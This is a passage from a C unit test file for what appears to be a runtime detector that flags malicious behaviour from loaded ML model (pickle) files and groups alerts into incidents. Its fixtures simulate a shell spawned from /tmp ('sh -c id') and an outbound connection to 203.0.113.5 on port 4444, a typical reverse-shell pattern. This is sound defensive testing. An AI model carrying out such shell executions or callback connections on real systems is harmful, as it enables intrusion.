	ev.hdr.ts_ns = S(3);
	ev.hdr.mark.loader_tgid = 10;
	ev.hdr.mark.mark_ns = S(2);
	ev.hdr.mark.reason = MLW_MARK_MODEL;
	ev.path = "/tmp/sh";
	ev.argv[0] = "sh";
	ev.argv[1] = "-c";
	ev.argv[2] = "id";
	ev.argc = 3;
	f.exec_classes = EXEC_SHELL | EXEC_SHELL_INLINE | EXEC_FROM_TEMP;
	strcpy(f.resolved_path, "/tmp/sh");
	incident_input_from_alert(&a, &in, sum, sizeof(sum));
	CHECK_STR(in.summary, "exec /tmp/sh -c id");
	CHECK(in.step == INCIDENT_STEP_SHELL_EXEC);
	CHECK(in.loader_pid == 10 && in.mark_ns == S(2) && in.ts_ns == S(3) && in.pid == 20);
	CHECK(in.n_tags == 2 && in.severity == SEV_CRITICAL && !in.root_scope);
	CHECK_STR(in.model_path, "/tmp/m.pkl");
	CHECK_STR(in.loader_exe, "/usr/bin/python3");
	a.rule = &temp; /* the same exec, the other rule: the other kind */
	incident_input_from_alert(&a, &in, sum, sizeof(sum));
	CHECK(in.step == INCIDENT_STEP_TEMP_EXEC);

	memset(&conn, 0, sizeof(conn));
	conn.ret = -111;
	conn.addr.family = 2;
	ev.kind = MLW_EV_CONNECT;
	ev.u.connect = &conn;
	f.dest = DEST_EXTERNAL;
	strcpy(f.address, "203.0.113.5");
	f.port = 4444;
	a.rule = &ext;
	incident_input_from_alert(&a, &in, sum, sizeof(sum));
	CHECK_STR(in.summary, "connect 203.0.113.5:4444 (failed: -111)");
	CHECK(in.step == INCIDENT_STEP_EXTERNAL_CONNECT);
	conn.ret = -115; /* EINPROGRESS */
	incident_input_from_alert(&a, &in, sum, sizeof(sum));
	CHECK_STR(in.summary, "connect 203.0.113.5:4444");
	/* a cut summary is cut, not overrun */
	incident_input_from_alert(&a, &in, sum, 10);
	CHECK(strlen(sum) == 9);
}

int main(void)
{
	RUN(test_reverse_shell_one_incident);
	RUN(test_chain_raises_severity);
	RUN(test_persistence_needs_exec_first);
	RUN(test_two_lineages_two_ids);
	RUN(test_duplicates_collapse);
	RUN(test_per_incident_rate_limit);
	RUN(test_global_rate_limit);
	RUN(test_closed_summary);
	RUN(test_json_schema_version);
	RUN(test_id_stable);
	RUN(test_table_full);
	RUN(test_memory_bounded_and_accounted);
	RUN(test_context_held_and_replayed);
	RUN(test_timeline_cap_and_order);
	RUN(test_close_all_forced);
	RUN(test_json_hostile_strings);
	RUN(test_input_from_alert);
	reset_recs();
	return CHECK_DONE();
}
